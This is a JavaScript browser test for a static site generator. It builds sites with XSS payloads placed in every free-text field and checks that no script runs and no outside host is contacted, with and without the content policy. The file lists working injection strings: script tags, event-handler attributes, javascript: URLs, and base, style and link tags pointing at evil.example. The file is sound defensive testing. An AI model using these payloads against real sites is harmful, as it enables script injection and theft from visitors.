// Hostile words in every field that reaches a page: 132 payloads, made by rule from what they break out of and what they then
// try, in every text of the story that uses every key. In Chromium with the scripts of the site, without the content policy
// (nothing may run: the escaping alone has to hold) and with it (nothing may even be tried).

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { attr, elements, parse } from './html.mjs';
import { BIN, REPO, browse, filesOf, none, onEvery } from './lib.mjs';

/** What a text could break out of. */
const CONTEXTS = ['', '">', "'>", '</title>', '</script>', '</textarea></select>', '</style>', '-->', ']]>', '</noscript></template>', '}}{% raw %}'];
/** What it then tries; `hit()` would be a script that ran. */
const VECTORS = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<a href=javascript:hit() autofocus onfocus=hit()>x</a>',
  '<details open ontoggle=hit()>x</details>',
  ' onmouseover=hit() onfocus=hit() autofocus x=',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href=//evil.example/><script src=assets/x.js></script>',
  '<style>*{background:url(//evil.example/x)}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<form action=javascript:hit()><button formaction=javascript:hit()>x</button></form>',
  '[x](javascript:hit()) ![x](//evil.example/x.png) ${hit()} {{ hit() }}',
];
const PAYLOADS = CONTEXTS.flatMap((context) => VECTORS.map((vector) => context + vector));
/** One site for each of these: every field gets one vector in all contexts. */
const GROUPS = VECTORS.map((vector) => CONTEXTS.map((context) => context + vector).join(' '));

/** Keys with text that an author writes freely. */
const FREE = [
  'title', 'short', 'tagline', 'operator', 'icp', 'contact', 'lead', 'licence', 'about', 'aliases', 'description', 'letterhead', 'by', 'basis',
  'index_number', 'text', 'note', 'what', 'who', 'items', 'why', 'office', 'duty', 'phone', 'source', 'ask', 'help', 'elsewhere', 'unit', 'overlap',
  'place', 'service', 'redundant', 'name', 'group', 'number', 'printed', 'right', 'issuers', 'addressees', 'copies', 'cells', 'section', 'pinyin',
];

/** Free texts of a source file: [start, end, key, what is written]. */
function slots(text) {
  const found = [];
  const field = new RegExp(`(?<![\\w-])(${FREE.join('|')}): (\\[?)("[^"\\n]*"|'[^'\\n]*'|[^,{}\\[\\]\\n#"']+)`, 'g');
  const end = text.startsWith('---') ? text.indexOf('\n---', 3) : text.length;
  for (let match; (match = field.exec(text)) && match.index < end;) {
    const start = match.index + match[0].length - match[3].length;
    const written = match[3].trimEnd();
    found.push([start, start + written.length, match[1], written.replace(/^["']|["']$/g, '')]);
  }
  return found;
}

const build = (folder, out) => new Promise((resolve) => {
  execFile(BIN, ['build', folder, '--out', out, '--today', '2023-09-01', '--format', 'json'], { maxBuffer: 1 << 26 }, (error, stdout) => resolve({ code: error?.code ?? 0, list: JSON.parse(stdout || '[]') }));
});

let tmp;
let browser;
/** Fields that stay as they are, as `file:number`: their words are compared with something else, so a payload is an error. */
const kept = new Set();
const sites = [];
let reached;
before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'mingbai-fields-'));
  const story = join(tmp, 'story');
  cpSync(join(REPO, 'themes'), join(story, 'themes'), { recursive: true });
  cpSync(join(REPO, 'tests/stories/regions'), story, { recursive: true });
  for (const part of ['content', 'data']) cpSync(join(REPO, 'tests/stories/every-key', part), join(story, part), { recursive: true });
  const sources = filesOf(story).filter((name) => /^(content|data)\/.*\.(md|yaml)$/.test(name) && !name.startsWith('data/regions'));
  const texts = new Map(sources.map((name) => [name, readFileSync(join(story, name), 'utf8')]));
  const fields = new Map(sources.map((name) => [name, slots(texts.get(name))]));
  // What is approved must be the text that is found.
  const approvals = 'data/approvals.yaml';
  for (const [index, [, , key]] of fields.get(approvals).entries()) if (key === 'what') kept.add(`${approvals}:${index}`);
  browser = await browse();
  for (const [number, group] of GROUPS.entries()) {
    const out = join(tmp, `public-${number}`);
    // Each round gives up the fields at which an error is reported; the rest must build in the end.
    for (let round = 0; ; round += 1) {
      assert.ok(round < 30, 'the site never builds');
      const at = new Map();
      for (const name of sources) {
        let text = '';
        let from = 0;
        const places = [];
        for (const [index, [start, end, , written]] of fields.get(name).entries()) {
          text += texts.get(name).slice(from, start);
          const begin = text.length;
          text += kept.has(`${name}:${index}`) ? texts.get(name).slice(start, end) : JSON.stringify(`${written} zq${sources.indexOf(name)}x${index}z ${group}`);
          places.push([begin, text.length, index]);
          from = end;
        }
        text += texts.get(name).slice(from);
        // The texts themselves, too: of plain pages and of official documents.
        if (name.endsWith('.md')) text += `\n${group}\n`;
        at.set(name, { text, places });
        writeFileSync(join(story, name), text);
      }
      const { code, list } = await build(story, out);
      if (code === 0) break;
      const errors = list.filter((one) => one.severity === 'error');
      assert.ok(errors.length > 0, 'no error is reported');
      const before = kept.size;
      for (const one of errors) {
        const known = at.get(one.file);
        if (!known) continue;
        // The field at the place of the error; if there is none, those on the same line.
        const bytes = Buffer.from(known.text);
        const [start, end] = [one.start, one.end].map((at) => bytes.subarray(0, at).toString().length);
        const lines = [known.text.lastIndexOf('\n', start - 1), known.text.indexOf('\n', start)];
        const here = known.places.filter(([begin, last]) => begin <= end && last >= start);
        const wrong = here.length > 0 ? here : known.places.filter(([begin]) => begin > lines[0] && begin < lines[1]);
        for (const [, , index] of wrong) kept.add(`${one.file}:${index}`);
      }
      // A name that others refer to: the error is where it is missed.
      if (kept.size === before) {
        for (const name of sources) {
          for (const [index, [, , , written]] of fields.get(name).entries()) {
            const marker = `zq${sources.indexOf(name)}x${index}z`;
            if (errors.some(({ message }) => message.zh.includes(`“${written}”`) || message.zh.includes(marker))) kept.add(`${name}:${index}`);
          }
        }
      }
      if (kept.size === before) assert.fail(errors.slice(0, 3).map((one) => `${one.code} ${one.file}:${one.line} ${one.message.zh.slice(0, 200)}`).join('\n'));
    }
    sites.push(out);
  }
  const shown = filesOf(sites[0]).filter((name) => name.endsWith('.html')).map((name) => readFileSync(join(sites[0], name), 'utf8')).join('\n');
  reached = new Set();
  for (const [name, list] of fields) for (const [index, [, , key]] of list.entries()) if (shown.includes(`zq${sources.indexOf(name)}x${index}z`)) reached.add(`${name.split('/')[1]} ${key}`);
});
after(async () => { await browser?.close(); if (tmp) rmSync(tmp, { recursive: true, force: true }); });

const TYPES = { '.html': 'text/html; charset=utf-8', '.css': 'text/css', '.js': 'text/javascript', '.svg': 'image/svg+xml', '.png': 'image/png' };

/** Shows every page of a site and does what a reader does; hands out what ran and what was refused. */
async function show(out, withPolicy) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const hits = [];
  const refused = [];
  await context.exposeFunction('hit', () => { hits.push('a script ran'); });
  await context.exposeFunction('refused', (words) => { refused.push(words); });
  await context.addInitScript(() => document.addEventListener('securitypolicyviolation', (event) => window.refused(`${location.pathname}: ${event.violatedDirective} ${event.sample}`)));
  context.on('dialog', (dialog) => { hits.push('a dialog'); dialog.dismiss().catch(() => {}); });
  await context.route('**/*', (route) => {
    const url = new URL(route.request().url());
    const file = join(out, decodeURIComponent(url.pathname));
    if (url.host !== 'site.test') { hits.push(`a request to ${url.host}`); return route.abort(); }
    if (!statSync(file, { throwIfNoEntry: false })?.isFile()) return route.fulfill({ status: 404, body: '' });
    let body = readFileSync(file);
    if (file.endsWith('.html') && !withPolicy) {
      body = body.toString().replace(/<meta[^>]*Content-Security-Policy[^>]*>/i, '');
      if (/Content-Security-Policy/i.test(body)) hits.push('the policy is still there');
    }
    return route.fulfill({ status: 200, contentType: TYPES[extname(file)] ?? 'application/octet-stream', body });
  });
  // Of each folder a few pages: what they have in common is the same.
  const seen = new Map();
  const some = (name) => {
    const folder = name.replace(/[^/]*$/, '');
    seen.set(folder, (seen.get(folder) ?? 0) + 1);
    return folder === '' || seen.get(folder) <= 4;
  };
  const pages = filesOf(out).filter((name) => name.endsWith('.html') && !elements(parse(readFileSync(join(out, name), 'utf8')), 'meta').some((meta) => attr(meta, 'http-equiv') === 'refresh')).filter(some);
  await onEvery(context, pages, async (page, path) => {
    await page.goto(`http://site.test/${path}`, { waitUntil: 'load' });
    await page.evaluate(() => {
      for (const one of document.querySelectorAll('main *, header *')) {
        for (const kind of ['mouseover', 'focus', 'toggle']) one.dispatchEvent(new Event(kind, { bubbles: true }));
        if (one.localName === 'details') one.open = true;
      }
    });
    if (!/^(search\/index|index|checks\/)/.test(path)) return;
    // Words of the site and of the reader go through the scripts of search and self-checks.
    for (const words of path.startsWith('checks/') ? [] : ['续贷', PAYLOADS[1]]) {
      await page.locator('#find').fill(words);
      await page.waitForTimeout(200);
    }
    for (let n = 0; n < 8 && await page.locator('#ok').isVisible().catch(() => false); n += 1) {
      const choice = page.locator('#in input[type=radio], #in input[type=checkbox]').first();
      if (await choice.count()) await choice.check(); else break;
      await page.locator('#ok').click();
    }
  });
  return { hits, refused, pages: pages.length };
}

test('the payloads reach the pages through the fields of every kind of file', (t) => {
  assert.ok(PAYLOADS.length >= 120 && new Set(PAYLOADS).size === PAYLOADS.length);
  t.diagnostic(`${PAYLOADS.length} payloads, ${reached.size} kinds of fields: ${[...reached].sort().join(', ')}`);
  for (const kind of ['notices', 'pages', 'schedules', 'pilots', 'assessments', 'checks', 'site.yaml', 'topics.yaml', 'glossary.yaml']) {
    assert.ok([...reached].some((one) => one.startsWith(kind)), `${kind}: no field reaches a page`);
  }
  assert.ok(reached.size >= 45, `${reached.size} kinds of fields`);
});

test('the same payloads run where they are not escaped', async () => {
  const context = await browser.newContext();
  let hits = 0;
  await context.exposeFunction('hit', () => { hits += 1; });
  const page = await context.newPage();
  await page.setContent(`<!doctype html><p>${PAYLOADS[1]}<p>${PAYLOADS[2]}<p title="${PAYLOADS[VECTORS.length]}">`);
  await page.waitForTimeout(300);
  assert.ok(hits >= 3, `${hits} ran`);
  await context.close();
});

test('without the policy nothing runs and nothing is asked of another host', async () => {
  const faults = [];
  for (const [number, out] of sites.entries()) {
    const { hits, pages } = await show(out, false);
    assert.ok(pages > 20, `${pages} pages`);
    if (hits.length > 0) faults.push(`${VECTORS[number]}: ${hits.length} times, ${hits[0]}`);
  }
  none(faults, 'payloads');
});

test('with the policy nothing is even tried', async () => {
  const faults = [];
  for (const [number, out] of sites.entries()) {
    const { hits, refused } = await show(out, true);
    if (hits.length + refused.length > 0) faults.push(`${VECTORS[number]}: ${hits[0]} ${refused[0]}`);
  }
  none(faults, 'payloads');
});
